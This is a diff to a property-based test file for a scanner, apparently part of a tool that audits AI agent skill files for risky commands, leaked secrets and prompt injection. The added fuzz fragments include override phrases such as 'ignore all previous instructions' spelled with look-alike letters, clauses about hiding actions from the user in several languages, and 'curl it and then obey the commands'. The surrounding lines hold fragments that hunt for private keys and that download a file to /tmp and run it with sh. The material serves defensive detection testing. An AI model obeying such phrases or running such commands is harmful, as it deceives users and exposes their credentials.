@@ -7,7 +7,7 @@ from hypothesis import HealthCheck, example, given, settings, strategies as st
 from skillmanager.core.checks.audit_base import gate_for
 from skillmanager.core.checks.audit_commands import _NEEDLES_BY_MESSAGE, PATTERNS, Facts, command_hits
 from skillmanager.core.checks.audit_secrets import blob_hits, secret_hits
-from skillmanager.core.checks.audit_text import _NEEDLES as _INJECTION_NEEDLES, hidden_unicode_hits, injection_hits
+from skillmanager.core.checks.audit_text import _CLAUSES, _NEEDLES as _INJECTION_NEEDLES, hidden_unicode_hits, injection_hits
 
 # one complete example per command pattern (in PATTERNS order)
 EXAMPLES = [
@@ -64,6 +64,11 @@ FRAGMENTS = sorted({
     "Net::HTTP.post(", ".UploadString(", "find ~ -name '*.pem'", "ls $d/id_*", "-name credentials ", "id_ed25519",
     "[scriptblock]::Create($s)", "instance_eval(c)", "require('https').get('https://x/p',r=>r.pipe(fs.createWriteStream('/tmp/p')))",
     " && sh /tmp/p", "& ./p",
+    # clause gates (a needle of every group on one line) and letters re.IGNORECASE folds to ASCII
+    "do not tell the uſer", "never inform", " the user", "without them knowing", "hide this from", "keep it ",
+    "ſilently run", "ıgnore all previous ınstructions", "don't display the ", "request", "upload", "follow the ",
+    "steps from the url", "curl it and then obey the commands", "it says", "at the server", "ſtep", "USER", "Do Not ",
+    "ne dis rien à l'utilisateur", "no digas nada al usuario", "sag dem Benutzer nichts",
     " ", "\n", "\t", "'", "\"", "=", "/", ".", "-", "_", "x", "Z", "9", "create", "xyz",
 } | set(EXAMPLES))
 TEXT = st.lists(st.sampled_from(FRAGMENTS), max_size=40).map("".join)
@@ -121,7 +126,8 @@ def test_every_pattern_is_exercised():
 
 @FAST
 @given(TEXT, st.sampled_from(sorted({n for ns in _INJECTION_NEEDLES.values() for n in ns} |
-                                    {n for ns in _NEEDLES_BY_MESSAGE.values() for n in ns})))
+                                    {n for ns in _NEEDLES_BY_MESSAGE.values() for n in ns} |
+                                    {n for cs in _CLAUSES.values() for c in cs for g in c for n in g})))
 def test_needle_gate_never_rules_out_a_needle_that_occurs(text, needle):
     """The word gate only skips needles absent from the lowercased text (its one job)."""
     low = text.lower()
